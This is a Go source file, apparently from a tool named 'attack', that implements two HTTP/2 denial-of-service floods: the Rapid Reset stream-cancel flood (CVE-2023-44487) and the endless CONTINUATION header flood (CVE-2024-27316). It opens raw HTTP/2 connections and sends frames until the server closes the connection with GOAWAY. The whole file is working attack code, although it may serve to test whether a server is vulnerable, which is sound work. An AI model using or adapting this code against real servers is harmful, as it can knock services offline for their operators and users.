package main

import (
	"bytes"
	"context"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// open begins HTTP/2 with prior knowledge (RFC 9113, section 3.3), and returns how it ends:
// with the reason that the server gives, or "" when the connection ends.
func (a attack) open(ctx context.Context) (net.Conn, *http2.Framer, <-chan string, error) {
	conn, err := a.dial(ctx)
	if err != nil {
		return nil, nil, nil, err
	}
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, nil, nil, err
	}
	framer := http2.NewFramer(conn, conn)
	if err := framer.WriteSettings(); err != nil {
		return nil, nil, nil, err
	}
	ended := make(chan string, 1)
	go func() {
		reason := ""
		defer func() { ended <- reason }()
		for {
			frame, err := framer.ReadFrame()
			if err != nil {
				return
			}
			if g, ok := frame.(*http2.GoAwayFrame); ok && g.ErrCode != http2.ErrCodeNo {
				reason = g.ErrCode.String()
				return
			}
		}
	}()
	return conn, framer, ended, nil
}

// headers encodes header lists of one connection.
type headers struct {
	block   bytes.Buffer
	encoder *hpack.Encoder
}

func newHeaders() *headers {
	h := &headers{}
	h.encoder = hpack.NewEncoder(&h.block)
	return h
}

// encode returns fields, which are good until the next call.
func (h *headers) encode(fields ...hpack.HeaderField) []byte {
	h.block.Reset()
	for _, f := range fields {
		_ = h.encoder.WriteField(f) // to memory, which does not fail
	}
	return h.block.Bytes()
}

// request is what a request begins with.
func (a attack) request() []hpack.HeaderField {
	return []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: a.host}, {Name: ":path", Value: "/"}}
}

// reset begins streams and resets each at once (CVE-2023-44487).
func (a attack) reset(ctx context.Context, count int) (report, error) {
	lists := newHeaders()
	return a.flood(ctx, count, func(framer *http2.Framer, n int) error {
		stream := uint32(2*n + 1)
		begin := http2.HeadersFrameParam{StreamID: stream, BlockFragment: lists.encode(a.request()...), EndStream: true, EndHeaders: true}
		if err := framer.WriteHeaders(begin); err != nil {
			return err
		}
		return framer.WriteRSTStream(stream, http2.ErrCodeCancel)
	})
}

// continuation begins a header list that never ends (CVE-2024-27316).
func (a attack) continuation(ctx context.Context, count int) (report, error) {
	lists := newHeaders()
	return a.flood(ctx, count, func(framer *http2.Framer, n int) error {
		if n == 0 {
			return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: lists.encode(a.request()...), EndStream: true})
		}
		return framer.WriteContinuation(1, false, lists.encode(hpack.HeaderField{Name: "x-field", Value: strings.Repeat("a", 1000), Sensitive: true}))
	})
}

// flood sends until the server ends it, count is reached or ctx ends, and then waits for
// the server.
func (a attack) flood(ctx context.Context, count int, send func(framer *http2.Framer, n int) error) (report, error) {
	conn, framer, ended, err := a.open(ctx)
	if err != nil {
		return report{}, err
	}
	defer conn.Close()
	r := report{}
	for r.Sent < count && ctx.Err() == nil {
		select {
		case r.GoAway = <-ended:
			r.Closed++
			return r, nil
		default:
		}
		if send(framer, r.Sent) != nil {
			break
		}
		r.Sent++
	}
	// What has been sent has yet to be read.
	r.GoAway = <-ended
	if ctx.Err() == nil {
		r.Closed++
	}
	return r, nil
}
